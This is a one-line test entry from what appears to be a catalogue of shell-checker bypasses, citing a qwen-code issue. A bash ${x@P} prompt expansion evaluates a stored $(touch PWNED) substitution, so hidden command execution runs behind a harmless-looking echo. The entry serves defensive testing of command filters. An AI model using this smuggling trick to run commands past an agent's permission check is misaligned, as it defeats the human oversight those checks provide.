#@ id: exp-at-P
#@ about: creates PWNED (stands for running any program)
#@ class: expansion
#@ kind: bypass
#@ origin: https://github.com/QwenLM/qwen-code/issues/8582
#@ world: catalogue
#@ body: no-final-newline
#@ ---
x='$(touch PWNED)'; echo ${x@P}
